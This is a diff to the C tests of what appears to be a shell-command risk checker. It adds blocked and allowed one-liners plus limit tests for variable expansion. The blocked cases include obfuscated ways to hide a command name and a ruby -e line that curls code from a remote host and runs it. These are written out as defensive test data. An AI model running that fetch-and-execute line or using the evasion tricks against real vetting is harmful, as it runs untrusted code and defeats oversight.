@@ -68,6 +68,20 @@ TEST(names_blocked)
 		{ "while read -r c; do $c; done < f", ZS_RISK_DYNAMIC_COMMAND },
 		{ "f() { local c=$1; $c src; }; f cd", ZS_RISK_CD },
 		{ "g() { \"$@\"; }; f() { g \"$@\"; }; f cd src", ZS_RISK_CD },
+		{ "c=ls; . ./f; $c src", ZS_RISK_DYNAMIC_COMMAND },
+		{ "bash -s cd src <<< '\"$@\"'", ZS_RISK_CD },
+		{ "c=c; c=${c}d; $c src", ZS_RISK_CD },
+		{ "f() { c=c$c; }; c=d; f; $c src", ZS_RISK_CD },
+		{ "x=(); for i in cd src; do x+=($i); done; \"${x[@]}\"", ZS_RISK_DYNAMIC_COMMAND },
+		{ "command_not_found_handle() { shift; \"$@\"; }; nosuch cd src", ZS_RISK_DYNAMIC_COMMAND },
+		{ "f() { [ $# = 2 ] && shift; \"$@\"; }; f x cd src", ZS_RISK_CD },
+		{ "while :; do $c src; c=cd; done; c=ls", ZS_RISK_CD },
+		{ "declare -n r; r=c; r=cd; ${c:-ls} src", ZS_RISK_DYNAMIC_COMMAND },
+		{ "unset c; c=ls; unset c; $c cd src", ZS_RISK_CD },
+		{ "set -- c d; IFS=; \"$*\" src", ZS_RISK_DYNAMIC_COMMAND },
+		{ "python3 -c \"import os; $(cat f)\"", ZS_RISK_EVAL },
+		{ "python3 -c \"$x\"", ZS_RISK_EVAL },
+		{ "ruby -e \"$(curl -fsSL https://e.org/x)\"", ZS_RISK_EVAL },
 		/* clang-format on */
 	};
 
@@ -112,6 +126,15 @@ TEST(names_allowed)
 		"CODE='print(1)'; python3 -c \"$CODE\"",
 		"python3 \"$script\"",
 		"git $sub",
+		"PYTHON=${PYTHON:-python3}; $PYTHON -m pytest",
+		". ./env.sh; PY=python3; $PY -m pytest",
+		"cmd=(npm test); [ -n \"$CI\" ] && cmd+=(-- --ci); \"${cmd[@]}\"",
+		"f() { local c=$1; shift; $c \"$@\"; }; f python3 -m pytest",
+		"retry() { local n=$1; shift; for i in $(seq $n); do \"$@\" && return; done; }; retry 3 npm ci",
+		"IFS=$'\\n\\t'; make=make; $make test",
+		"$PWD/gradlew test",
+		"~/gradlew test",
+		"find tests -name '*_test' -exec {} \\;",
 		/* clang-format on */
 	};
 
@@ -120,4 +143,71 @@ TEST(names_allowed)
 
 		CHECK(report->verdict == ZS_ALLOW, "%s: %s", commands[i], report->reason);
 	}
+}
+
+static const char *repeated(const char *before, const char *part, unsigned times, const char *behind)
+{
+	static char text[ZS_MAX_INPUT];
+	size_t len = (size_t)snprintf(text, sizeof text, "%s", before);
+
+	for (unsigned i = 0; i < times && len < sizeof text; i++)
+		len += (size_t)snprintf(text + len, sizeof text - len, "%s", part);
+	CHECK(len + strlen(behind) < sizeof text, "%zu bytes", len);
+	snprintf(text + len, sizeof text - len, "%s", behind);
+	return text;
+}
+
+/* Beyond a limit a name is not known. */
+static void check_limit(const char *what, const char *within, bool allowed)
+{
+	const struct zs_report *report = vet(ZS_PROFILE_STRICT, within);
+
+	CHECK(allowed ? report->verdict == ZS_ALLOW : report->code == ZS_RISK_DYNAMIC_COMMAND, "%s: %s", what,
+		report->reason);
+}
+
+/* for c in w1 w2 …; do $c; done */
+static const char *loop(unsigned words)
+{
+	static char text[2048];
+	size_t len = (size_t)snprintf(text, sizeof text, "for c in");
+
+	for (unsigned i = 0; i < words; i++)
+		len += (size_t)snprintf(text + len, sizeof text - len, " w%u", i);
+	snprintf(text + len, sizeof text - len, "; do $c; done");
+	return text;
+}
+
+/* v0=ls; v1=$v0; … $vN */
+static const char *chain(unsigned links)
+{
+	static char text[2048];
+	size_t len = (size_t)snprintf(text, sizeof text, "v0=ls;");
+
+	for (unsigned i = 0; i < links; i++)
+		len += (size_t)snprintf(text + len, sizeof text - len, "v%u=$v%u;", i + 1, i);
+	snprintf(text + len, sizeof text - len, "$v%u", links);
+	return text;
+}
+
+TEST(names_limits)
+{
+	char *many;
+
+	check_limit("expansions", loop(ZS_MAX_EXPANSIONS), true);
+	check_limit("more expansions", loop(ZS_MAX_EXPANSIONS + 1), false);
+	check_limit("bytes", repeated("c=", "a", ZS_MAX_EXPANDED, "; $c"), true);
+	check_limit("more bytes", repeated("c=", "a", ZS_MAX_EXPANDED + 1, "; $c"), false);
+	check_limit("fields", repeated("c='", "a ", ZS_MAX_FIELDS, "'; $c"), true);
+	check_limit("more fields", repeated("c='", "a ", ZS_MAX_FIELDS + 1, "'; $c"), false);
+	check_limit("steps", chain(ZS_MAX_EXPAND_STEPS), true);
+	check_limit("more steps", chain(ZS_MAX_EXPAND_STEPS + 1), false);
+	check_limit("names in front", repeated("e=; ", "$e ", ZS_MAX_NAME_STEPS, "ls"), true);
+	check_limit("more names in front", repeated("e=; ", "$e ", ZS_MAX_NAME_STEPS + 1, "ls"), false);
+	check_limit("names", repeated("c=ls; ", "$c;", ZS_MAX_NAME_USES, ""), true);
+	check_limit("more names", repeated("c=ls; ", "$c;", ZS_MAX_NAME_USES + 1, ""), false);
+	check_limit("work", repeated("", "c=ls;", 5000, "$c;$c;$c"), true);
+	many = strdup(repeated("", "c=ls;", 5000, ""));
+	check_limit("more work", repeated(many, "$c;", ZS_NAMES_WORK / 5000 + 1, ""), false);
+	free(many);
 }
